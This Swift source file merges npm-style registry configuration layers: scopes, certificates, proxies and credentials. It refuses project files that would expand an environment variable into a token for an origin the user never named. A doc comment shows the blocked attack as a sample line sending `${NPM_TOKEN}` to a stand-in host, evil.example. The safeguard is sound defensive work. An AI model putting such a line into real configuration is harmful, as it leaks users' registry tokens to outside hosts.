import PackageModel
import Registry

extension RegistryConfiguration {
    /// Merges layers, the first of which wins, as npm does.
    ///
    /// A project's file is written by whoever writes the project. It may name variables in a credential only for an
    /// origin that the user's own layers or the default registry name: otherwise
    /// `//evil.example/:_authToken=${NPM_TOKEN}` in a pull request would send a token away.
    ///
    /// - Parameter variables: what `${NAME}` stands for.
    package init(layers: [ConfigurationLayer], variables: [String: String]) {
        self.init()
        var reader = ConfigurationReader(variables: variables, trusted: Self.trustedOrigins(layers, variables))
        for layer in layers {
            for entry in layer.entries { reader.read(entry, from: layer) }
        }
        reader.finish(into: &self)
    }

    private static func trustedOrigins(
        _ layers: [ConfigurationLayer], _ variables: [String: String]
    ) -> Set<WebAddress.Origin> {
        var origins: Set<WebAddress.Origin> = []
        if let standard = WebAddress(Endpoints.defaultRegistry) { origins.insert(standard.origin) }
        for layer in layers where layer.kind != .project {
            for entry in layer.entries {
                let text = entry.key.hasPrefix("//") ? "https:" + entry.key.prefix { $0 != "_" } : entry.value
                if let address = WebAddress(ConfigurationReader.expand(text, variables).text) {
                    origins.insert(address.origin)
                }
            }
        }
        return origins
    }
}

/// Collects settings layer by layer.
struct ConfigurationReader {
    let variables: [String: String]
    let trusted: Set<WebAddress.Origin>
    private var settings: [String: String] = [:]
    private var scopes: [String: String] = [:]
    /// By nerf dart (`//host/path/`), the fields of its credential.
    private var nerfDarts: [String: [String: String]] = [:]
    private var certificates: [String] = []
    private var notices: [String] = []

    init(variables: [String: String], trusted: Set<WebAddress.Origin>) {
        self.variables = variables
        self.trusted = trusted
    }

    mutating func read(_ entry: NPMRC.Entry, from layer: ConfigurationLayer) {
        let (value, names) = Self.expand(entry.value, variables)
        if entry.key.hasPrefix("//") {
            readCredential(entry, value, expanded: names, from: layer)
        } else if entry.key.hasPrefix("@"), let colon = entry.key.lastIndex(of: ":"), entry.key.hasSuffix(":registry") {
            let scope = String(entry.key[..<colon].dropFirst())
            if scopes[scope] == nil { scopes[scope] = value }
        } else if entry.key == "ca[]" || entry.key == "ca" {
            if !value.isEmpty, value != "null" { certificates.append(Self.withLineFeeds(value)) }
        } else if entry.key.hasPrefix("_") || entry.key == "username" {
            notices.append("\(layer.name): `\(entry.key)` without a registry is not used; write `//host/:\(entry.key)`")
        } else if settings[entry.key] == nil {
            settings[entry.key] = value
        }
    }

    private mutating func readCredential(
        _ entry: NPMRC.Entry, _ value: String, expanded names: Bool, from layer: ConfigurationLayer
    ) {
        guard let colon = entry.key.lastIndex(of: ":"), let address = WebAddress("https:" + entry.key[..<colon]) else {
            notices.append("\(layer.name): line \(entry.line) names no registry and is not used")
            return
        }
        let field = String(entry.key[entry.key.index(after: colon)...])
        guard ["_authToken", "_auth", "username", "_password"].contains(field) else { return }
        if layer.kind == .project, names,
            !trusted.contains(where: { $0.host == address.origin.host && $0.port == address.origin.port })
        {
            notices.append(
                "\(layer.name): line \(entry.line) would send a variable to `\(address.origin.host)`, "
                    + "which your own configuration does not name; refused")
            return
        }
        let dart = String(entry.key[..<colon])
        if nerfDarts[dart]?[field] == nil { nerfDarts[dart, default: [:]][field] = value }
    }

    func finish(into configuration: inout RegistryConfiguration) {
        if let registry = settings["registry"] { configuration.registry = registry }
        configuration.scopedRegistries = scopes
        configuration.certificates = certificates
        if let file = settings["cafile"], !file.isEmpty, file != "null" { configuration.certificateFiles = [file] }
        configuration.verifiesTLS = settings["strict-ssl"] != "false"
        configuration.notices = notices
        if !configuration.verifiesTLS {
            configuration.notices.append("`strict-ssl` is off: nobody vouches for the servers that are asked")
        }
        configuration.httpsProxy = proxy("https-proxy", "HTTPS_PROXY", "https_proxy") ?? proxy("proxy")
        configuration.httpProxy = proxy("http-proxy") ?? proxy("proxy", "HTTP_PROXY", "http_proxy")
        let direct = settings["noproxy"] ?? variables["NO_PROXY"] ?? variables["no_proxy"] ?? ""
        configuration.noProxy = direct.split { $0 == "," || $0 == " " }.map { $0.lowercased() }
        for (dart, fields) in nerfDarts.sorted(by: { precedesBytewise($0.key, $1.key) }) {
            guard let authorization = Self.authorization(fields) else { continue }
            for address in addresses(dart) { configuration.credentials.add(authorization, for: address) }
        }
    }

    /// The scheme that a nerf dart leaves out: `https`, and `http` too if a registry that is used is at that place.
    private func addresses(_ dart: String) -> [WebAddress] {
        let used = ([settings["registry"]] + scopes.values.map(Optional.some)).compactMap {
            $0.flatMap(WebAddress.init)
        }
        return ["https:", "http:"].compactMap { WebAddress($0 + dart) }.filter { address in
            address.origin.isSecure || used.contains { $0.origin == address.origin }
        }
    }

    private func proxy(_ setting: String, _ names: String...) -> String? {
        for value in [settings[setting]] + names.map({ variables[$0] }) {
            if let value, !value.isEmpty, value != "null", value != "false" { return value }
        }
        return nil
    }

    private static func authorization(_ fields: [String: String]) -> Secret? {
        if let token = fields["_authToken"], !token.isEmpty { return Secret("Bearer \(token)") }
        if let basic = fields["_auth"], !basic.isEmpty { return Secret("Basic \(basic)") }
        guard let user = fields["username"], let encoded = fields["_password"], let password = Base64.decode(encoded)
        else {
            return nil
        }
        return Secret("Basic " + Base64.encode(Array(user.utf8) + [UInt8(ascii: ":")] + password))
    }

    /// Replaces `${NAME}`; an unknown name stays as it is, as in npm. Says whether any was replaced.
    static func expand(_ text: String, _ variables: [String: String]) -> (text: String, expanded: Bool) {
        var result = ""
        var rest = text[...]
        var expanded = false
        while let start = rest.range(of: "${"), let end = rest[start.upperBound...].firstIndex(of: "}") {
            var name = rest[start.upperBound..<end]
            let isOptional = name.hasSuffix("?")
            if isOptional { name = name.dropLast() }
            result += rest[..<start.lowerBound]
            if let value = variables[String(name)] {
                result += value
                expanded = true
            } else if !isOptional {
                result += rest[start.lowerBound...end]
            }
            rest = rest[rest.index(after: end)...]
        }
        return (result + rest, expanded)
    }

    private static func withLineFeeds(_ text: String) -> String {
        text.split(separator: "\\n", omittingEmptySubsequences: false).joined(separator: "\n")
    }
}

extension Substring {
    fileprivate func range(of pattern: String) -> Range<Index>? {
        var start = startIndex
        while start < endIndex {
            if self[start...].hasPrefix(pattern) { return start..<index(start, offsetBy: pattern.count) }
            start = index(after: start)
        }
        return nil
    }
}
